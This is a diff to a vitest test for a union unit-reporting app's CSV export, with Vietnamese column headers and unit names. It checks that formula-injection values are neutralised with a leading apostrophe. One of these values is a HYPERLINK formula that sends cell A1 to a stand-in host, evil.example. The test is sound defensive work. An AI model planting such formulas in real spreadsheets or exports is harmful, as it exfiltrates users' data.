@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { insertUnitWithClosure } from "~/services/unit-tree.server";
 import { insertAccount } from "~/services/users.server";
@@ -51,18 +52,19 @@ describe.each(testDialects())("unit reports over HTTP on %s", (dialect) => {
     const bytes = new Uint8Array(await response.arrayBuffer());
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
-    const lines = text.split("\r\n");
-    expect(lines[0]).toBe('\uFEFF"STT","Mã đơn vị","Đơn vị","Đơn vị cấp trên","Hạn báo cáo","Tình trạng","Số ngày quá hạn","Người phụ trách"');
-    expect(text).toContain('"Công đoàn Trường THCS Bình Lư"');
-    expect(text).toContain('"Chưa lập"');
-    expect(text).toContain('"Bị trả lại"'); // LC-TD-005's returned report
+    const rows = parse(text, { bom: true }) as string[][];
+    expect(rows[0]).toEqual(["STT", "Mã đơn vị", "Đơn vị", "Đơn vị cấp trên", "Hạn báo cáo", "Tình trạng", "Số ngày quá hạn", "Người phụ trách"]);
+    const cells = rows.flat();
+    expect(cells).toContain("Công đoàn Trường THCS Bình Lư");
+    expect(cells).toContain("Chưa lập");
+    expect(cells).toContain("Bị trả lại"); // LC-TD-005's returned report
     expect(text).not.toContain("Chè Tam Đường"); // accepted
     expect(text).not.toContain("Phong Thổ");
     expect(text).not.toContain("Sìn Hồ");
     // Neither the unit's name nor its editor's name can start a formula.
-    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
-    expect(text).toContain(`"'@SUM(1+1)"`);
-    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"[=+\-@\t\r]/);
+    expect(cells.some((c) => c.includes(`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`))).toBe(true);
+    expect(cells.some((c) => c.includes("'@SUM(1+1)"))).toBe(true);
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it("gives the sibling district only its own units, and refuses editors and unknown campaigns", async () => {
